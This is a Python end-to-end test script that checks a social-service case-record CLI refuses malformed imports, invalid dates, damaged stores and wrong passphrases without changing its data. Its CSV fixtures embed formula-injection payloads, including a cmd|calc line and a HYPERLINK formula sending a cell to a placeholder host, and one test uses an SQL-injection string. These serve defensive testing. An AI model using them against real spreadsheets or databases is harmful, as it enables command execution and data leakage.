#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright 2026 The Nuanxin authors
#
# Everything bad that the tool may be given, as one list: files that are no register, dates and
# numbers that cannot be, stores in every broken state. Each must end with status 1 (2 for wrong
# usage), say what happened, what was kept and what to do, and leave every file of the store as it
# was. Run inside tests/support/session --keyring=unlocked.
import datetime
import glob
import os
import random
import re
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.join(os.environ['NX_TEST_SOURCE_ROOT'], 'tests', 'support'))
from nxtool import BUILD, PASSPHRASE, TOOL, Skip, digest, id_number, new_folder, run, run_json, \
    run_tests, write  # noqa: E402

FOLDER = new_folder()
MODEL = os.path.join(FOLDER, 'model')
DOCTOR = os.path.join(BUILD, 'tests', 'e2e', 'store-doctor')
HEAD = '姓名,性别,出生日期,身份证号,住址\n'
# What was kept: one of these stands in every message.
KEPT = re.compile(r'(Nothing|No office) was (changed|imported|saved|made|written|opened)|not changed|'
                  r'left as it|was kept|is kept|unchanged|nothing was')
noise = random.Random(1)
TOMORROW = (datetime.date.today() + datetime.timedelta(days=2)).isoformat()


def path(name):
    return os.path.join(FOLDER, name)


def file(name, content):
    return write(path(name), content)


def doctor(store, *words):
    subprocess.run([DOCTOR, store, *words], check=True, timeout=60)


def prepare():
    made = run(MODEL, 'init', '--office', '示例服务站', '--area', '210102002001', '--worker', '林晓岚',
               '--keyring', passphrase=PASSPHRASE)
    assert made.status == 0, made
    run_json(MODEL, 'demo', '--households', '12', '--seed', '3')


def copy():
    """A store of its own for a case that breaks it; the keyring's key opens it as well."""
    store = os.path.join(new_folder(), 'office')
    shutil.copytree(MODEL, store)
    return store


def refuse(result, what, status=1):
    assert result.status == status, f'{what}: {result}'
    assert not re.search(r'(CRITICAL|WARNING|Gtk-|GLib)', result.err), result
    message = result.err.split('nuanxin-tool: ', 1)[-1]
    assert what in message, f'{what!r} is not in: {result}'
    if status == 1:
        assert KEPT.search(message), f'does not say what was kept: {result}'
        assert len(re.findall(r'\.(\s|$)', message)) >= 2, f'does not say what to do: {result}'


def check_same(store, action, what, status=1):
    before = digest(store)
    result = action(store)
    refuse(result, what, status)
    after = digest(store)
    assert after == before, f'{what}: changed {sorted(set(before.items()) ^ set(after.items()))}'
    return result


# Files that are given to import, made when asked for.
def big_file():
    name = file('big.csv', HEAD + '王一,,,,虚构路1号\n')
    os.truncate(name, 200 * 1024 * 1024)
    return name


def truncated():
    whole = (HEAD + ''.join(f'王{n},女,1950-01-02,,"虚构路{n}号, {n}单元"\n' for n in range(50))).encode()
    return file('cut.csv', whole[:-12])


GOOD_BODY = '王一,女,1951-02-03,,虚构路1号\n'
IMPORTS = [
    ('truncated', truncated, 'ends inside the quotation mark'),
    ('binary', lambda: file('noise.csv', noise.randbytes(6000)), 'not a text table'),
    ('program', lambda: TOOL, 'not a text table'),
    ('zeros', lambda: file('zeros.csv', b'\0' * 5000), 'not a text table'),
    ('image', lambda: file('image.csv', b'\x89PNG\r\n\x1a\n' + noise.randbytes(999)), 'image'),
    ('pdf', lambda: file('paper.csv', b'%PDF-1.4\n' + noise.randbytes(999)), 'PDF'),
    ('archive', lambda: file('book.csv', b'PK\x03\x04' + noise.randbytes(999)), 'xlsx'),
    ('web page', lambda: file('page.xls', '<html><table><tr><td>姓名</td></tr></table>'), 'web page'),
    ('200 MB', big_file, 'larger than'),
    ('wrong encoding', lambda: file('enc.csv', HEAD.encode('gb18030') + b'\xff\xff,\xfe\xff,\xff\n' * 30),
     'Not one row'),
    ('half a character', lambda: file('half.csv', (HEAD + GOOD_BODY).encode('utf-16-le')[:-1]), ''),
    ('formulas', lambda: file('formula.csv', HEAD + '"=cmd|\'/c calc\'!A1",,,,虚构路1号\n'
                              '+cmd|\' /C calc\'!A0,,,,虚构路2号\n@SUM(A1:A9),,,,虚构路3号\n'
                              '王一,,,,"=HYPERLINK(""http://x/""&A1)"\n-王二,,,,虚构路4号\n'), 'Not one row'),
    ('impossible dates', lambda: file('dates.csv', HEAD + '王一,,1951-02-30,,虚构路1号\n'
                                      '王二,,1950.13.1,,虚构路2号\n王三,,' + TOMORROW + ',,虚构路3号\n'
                                      '王四,,1951年4月31日,,虚构路4号\n'), 'Not one row'),
    ('wrong ID numbers', lambda: file('ids.csv', HEAD + ''.join(
        f'王{n},,,{number},虚构路{n}号\n' for n, number in enumerate((
            '210102195103081010', id_number('210102', '21990308', 101),
            id_number('210102', '19510230', 101), '2101021951030', 'abcdefghijklmnopqr')))), 'Not one row'),
    ('empty', lambda: file('empty.csv', ''), 'is empty'),
    ('only a header', lambda: file('header.csv', HEAD), 'no row below'),
    ('no header', lambda: file('bare.csv', '甲,乙\n丙,丁\n'), 'names the columns'),
    ('too many columns', lambda: file('wide.csv', '姓名,' + ','.join(map(str, range(2000)))), 'columns'),
    ('huge cell', lambda: file('cell.csv', HEAD + '王' * 200000 + ',,,,x\n'), ''),
    ('missing', lambda: path('nowhere.csv'), 'could not be read'),
    ('a folder', lambda: FOLDER, 'could not be read'),
]


def make_import_test(make, what):
    def test():
        check_same(MODEL, lambda store: run(store, 'import', make()), what)
    return test


def test_good_rows_beside_bad_ones():
    store = copy()
    table = file('mixed.csv', HEAD + GOOD_BODY + '王二,女,1951-02-30,,虚构路2号\n'
                 f'王三,女,,{id_number("210100", "19510308", 102)},虚构路3号\n=1+1,,,,虚构路4号\n')
    done = run_json(store, 'import', table, '--report', path('refused.csv'))
    assert done['persons_added'] == 2 and done['refused'] == 2, done
    refusals = {f['row']: f for f in done['findings'] if f['is_refusal']}
    assert sorted(refusals) == [3, 5] and refusals[3]['column'] == '出生日期', refusals
    assert [f['row'] for f in done['findings'] if not f['is_refusal']] == [4], 'unknown region unsaid'
    with open(path('refused.csv'), encoding='utf-8-sig') as report:
        assert len(report.read().splitlines()) == 3


def test_report_cannot_be_written():
    table = file('good.csv', HEAD + GOOD_BODY)
    check_same(MODEL, lambda store: run(store, 'import', table, '--report', '/nowhere/r.csv'),
               'report could not be written')


# Visits: arguments behind the case, standard input, message, status.
VISITS = [
    ('no such day', ('--on', '2026-02-30', '--kind', 'home'), 'x', 'no such day', 1),
    ('no date', ('--on', 'whenever', '--kind', 'home'), 'x', '--on', 1),
    ('only a month', ('--on', '2026-02', '--kind', 'home'), 'x', 'whole day', 1),
    ('future', ('--on', TOMORROW, '--kind', 'home'), 'x', 'lies in the future', 1),
    ('next before', ('--on', 'today', '--kind', 'home', '--next', '1999-01-01'), 'x', 'next date', 1),
    ('impossible time', ('--on', 'today', '--kind', 'home', '--start', '25:99'), 'x', '', 1),
    ('end before begin', ('--on', 'today', '--kind', 'home', '--start', '10:00', '--end', '09:00'), 'x',
     'ends before', 1),
    ('no reason', ('--on', 'today', '--kind', 'home', '--state', 'attempted'), 'x', 'why the client', 1),
    ('unknown kind', ('--on', 'today', '--kind', 'dance'), 'x', '--kind', 2),
    ('unknown worker', ('--on', 'today', '--kind', 'home', '--worker', '没有此人'), 'x', 'No worker', 1),
    ('empty text', ('--on', 'today', '--kind', 'home'), ' \n', 'is empty', 1),
    ('binary text', ('--on', 'today', '--kind', 'home'), noise.randbytes(3000), 'text of the visit', 1),
    ('zeros in text', ('--on', 'today', '--kind', 'home'), b'ab\0cd', 'text of the visit', 1),
    ('huge text', ('--on', 'today', '--kind', 'home'), '啊' * 200000, '256 KiB', 1),
]


def make_visit_test(arguments, text, what, status):
    def test():
        check_same(MODEL, lambda store: run(store, 'visit', '1', *arguments, '--text', '-', stdin=text),
                   what, status)
    return test


def test_unknown_case():
    text = file('visit.txt', '一切都好。')
    for word in ('210102002001-2026-9999', '999999', 'nonsense', '-', '单晓岚', "' OR 1=1 --"):
        check_same(MODEL, lambda store: run(store, 'visit', '--on', 'today', '--kind', 'home', '--text', text,
                                            '--', word), 'no case with this number')
    for command in (('timeline', '999999'), ('print', 'timeline', '999999', '-o', path('x.pdf')),
                    ('show', 'case', '999999')):
        check_same(MODEL, lambda store: run(store, *command), 'no case with this number')
    assert not os.path.exists(path('x.pdf'))


def test_text_file_missing():
    check_same(MODEL, lambda store: run(store, 'visit', '1', '--on', 'today', '--kind', 'home', '--text',
                                        path('nowhere.txt')), 'could not be read')


# Stores
def test_store_missing():
    store = path('nowhere')
    refuse(run(store, 'list', 'persons'), 'is not there')
    assert not os.path.exists(store)


def test_store_folder_empty():
    store = new_folder()
    check_same(store, lambda s: run(s, 'list', 'persons'), 'no Nuanxin store')
    assert os.listdir(store) == []


def test_store_folder_of_others():
    store = new_folder()
    write(os.path.join(store, 'letter.txt'), 'x')
    check_same(store, lambda s: run(s, 'list', 'persons'), 'no Nuanxin store')
    check_same(store, lambda s: run(s, 'demo'), 'other files')


def test_store_file_empty():
    store = copy()
    write(os.path.join(store, 'store.db'), b'')
    check_same(store, lambda s: run(s, 'list', 'persons'), 'empty')
    check_same(store, lambda s: run(s, 'demo'), 'empty')


def test_store_file_foreign():
    store = copy()
    write(os.path.join(store, 'store.db'), noise.randbytes(65536))
    check_same(store, lambda s: run(s, 'list', 'persons'), '')


def test_store_file_plain():
    import sqlite3
    store = copy()
    os.unlink(os.path.join(store, 'store.db'))
    plain = sqlite3.connect(os.path.join(store, 'store.db'))
    plain.execute('CREATE TABLE person (name TEXT)')
    plain.commit()
    plain.close()
    check_same(store, lambda s: run(s, 'list', 'persons'), '')


def test_store_file_missing():
    store = copy()
    os.unlink(os.path.join(store, 'store.db'))
    check_same(store, lambda s: run(s, 'list', 'persons'), '')
    check_same(store, lambda s: run(s, 'demo'), '')


def test_keys_missing():
    store = copy()
    for name in glob.glob(os.path.join(store, 'store.keys*')):
        os.unlink(name)
    for command in (('list', 'persons'), ('demo',), ('init', '--office', 'x', '--area', '210102002001',
                                                     '--worker', 'x')):
        check_same(store, lambda s: run(s, *command), '')


def test_keys_damaged():
    store = copy()
    for name in glob.glob(os.path.join(store, 'store.keys*')):
        with open(name, 'r+b') as keys:
            keys.seek(200)
            keys.write(b'\0\0\0\0')
    check_same(store, lambda s: run(s, 'list', 'persons'), '')


def run_as_nobody(store, *arguments):
    """Root may write everywhere, so the tool runs as somebody who may not."""
    if os.geteuid() != 0:
        return run(store, *arguments, passphrase=PASSPHRASE)
    return run(store, *arguments, passphrase=PASSPHRASE, user=65534, group=65534, extra_groups=[],
               cwd='/')


def test_store_read_only():
    store = copy()
    try:
        if os.geteuid() == 0:
            for base, _, names in os.walk(os.path.dirname(store)):
                for name in [base] + [os.path.join(base, n) for n in names]:
                    os.chown(name, 65534, 65534)
            reachable = subprocess.run(['/usr/bin/test', '-x', TOOL], user=65534, group=65534)
            if reachable.returncode != 0:
                raise Skip('nobody may not run the tool of this build folder')
        os.chmod(store, 0o500)
        before = digest(store)
        refuse(run_as_nobody(store, 'list', 'persons'), 'read-only')
        refuse(run_as_nobody(store, 'demo'), '')
        os.chmod(os.path.dirname(store), 0o500)
        refuse(run_as_nobody(os.path.join(os.path.dirname(store), 'new'), 'demo'), '')
        assert digest(store) == before
    finally:
        os.chmod(os.path.dirname(store), 0o700)
        os.chmod(store, 0o700)


def test_store_newer():
    store = copy()
    doctor(store, 'schema', '99')
    check_same(store, lambda s: run(s, 'list', 'persons'), 'newer version')
    check_same(store, lambda s: run(s, 'demo'), 'newer version')


def test_disk_full():
    store = copy()
    size = os.path.getsize(os.path.join(store, 'store.db'))
    table = file('many.csv', HEAD + ''.join(f'王{n},女,1950-01-02,,虚构路{n}号\n' for n in range(4000)))
    before = run_json(store, 'check')
    refuse(run(store, 'import', table, limit=size + 200000), 'disk is full')
    assert run_json(store, 'check') == before, 'half of an import was kept'
    done = run_json(store, 'import', table)
    assert done['persons_added'] == 4000


def test_disk_full_at_start():
    store = os.path.join(new_folder(), 'office')
    result = run(store, 'init', '--office', 'x', '--area', '210102002001', '--worker', 'x', limit=100000)
    refuse(result, 'disk is full')
    assert not os.path.exists(store) or os.listdir(store) in ([], ['store.lock']), os.listdir(store)
    assert run(store, 'init', '--office', 'x', '--area', '210102002001', '--worker', 'x').status == 0


def test_disk_full_on_paper():
    visit = run_json(MODEL, 'list', 'visits', '--filter', 'state=done', '--limit', '1')[0]['id']
    folder = new_folder()
    before = run_json(MODEL, 'check')['counts']
    refuse(run(MODEL, 'print', 'visit', visit, '-o', os.path.join(folder, 'x.pdf'), limit=3000), '')
    assert os.listdir(folder) == []
    for place in ('/nowhere/x.pdf', folder):
        refuse(run(MODEL, 'print', 'visit', visit, '-o', place), '')
    assert os.listdir(folder) == [] and run_json(MODEL, 'check')['counts'] == before


def test_opened_twice():
    store = copy()
    other = subprocess.Popen([DOCTOR, store, 'hold'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    try:
        assert other.stdout.readline() == b'open\n'
        for command in (('list', 'persons'), ('demo',)):
            refuse(run(store, *command), 'already open in another')
    finally:
        other.stdin.close()
        other.wait(60)
    assert run(store, 'list', 'persons').status == 0


def test_killed_holder_leaves_no_lock():
    store = copy()
    other = subprocess.Popen([DOCTOR, store, 'hold'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert other.stdout.readline() == b'open\n'
    other.kill()
    other.wait(60)
    assert run(store, 'list', 'persons').status == 0


def test_wrong_passphrase():
    for wrong in (PASSPHRASE + ' ', PASSPHRASE.upper(), ''):
        result = check_same(MODEL, lambda s: run(s, 'list', 'persons', passphrase=wrong), '')
        assert wrong == '' or wrong not in result.err


def test_passphrase_file_not_open():
    check_same(MODEL, lambda s: run(s, '--passphrase-fd', '77', 'list', 'persons'), 'file number 77')


def test_weak_passphrase():
    for weak in ('', 'abc', '12345678', 'password'):
        store = os.path.join(new_folder(), 'office')
        result = run(store, 'init', '--office', 'x', '--area', '210102002001', '--worker', 'x',
                     passphrase=weak)
        refuse(result, 'passphrase')
        assert not os.path.exists(store), 'a folder was left behind'


def test_unknown_area():
    for code in ('000000000000', '999999999999', 'nonsense', '21'):
        store = os.path.join(new_folder(), 'office')
        refuse(run(store, 'init', '--office', 'x', '--area', code, '--worker', 'x'), 'code')
        assert not os.path.exists(store)


def test_damaged_page():
    store = copy()
    name = os.path.join(store, 'store.db')
    with open(name, 'r+b') as pages:
        pages.seek(os.path.getsize(name) * 2 // 3)
        pages.write(noise.randbytes(64))
    check_same(store, lambda s: run(s, 'check'), 'cannot be read')
    answer = run(store, '--json', 'check')
    assert answer.status == 1 and (not answer.out or answer.json['ok'] is False), answer


def test_damaged_head():
    store = copy()
    with open(os.path.join(store, 'store.db'), 'r+b') as pages:
        pages.seek(100)
        pages.write(noise.randbytes(64))
    check_same(store, lambda s: run(s, 'list', 'persons'), '')


def test_changed_journal():
    store = copy()
    doctor(store, 'sql', "UPDATE event SET action = 'approved' WHERE id = 7")
    result = check_same(store, lambda s: run(s, '--json', 'check'), 'journal')
    assert result.json['ok'] is False and result.json['journal_broken_at'] == 7, result


def test_older_copy_put_back():
    store = copy()
    with open(os.path.join(store, 'store.db'), 'rb') as file_before:
        older = file_before.read()
    run_json(store, 'visit', '1', '--on', 'today', '--kind', 'home', '--text', '-', stdin='x')
    write(os.path.join(store, 'store.db'), older)
    result = run(store, 'list', 'persons')
    assert result.status == 0 and 'older' in result.err, result


TESTS = [('import: ' + name, make_import_test(make, what)) for name, make, what in IMPORTS] \
    + [('visit: ' + name, make_visit_test(arguments, text, what, status))
       for name, arguments, text, what, status in VISITS] \
    + [(name[5:], function) for name, function in list(globals().items()) if name.startswith('test_')]

if __name__ == '__main__':
    prepare()
    sys.exit(run_tests(TESTS))
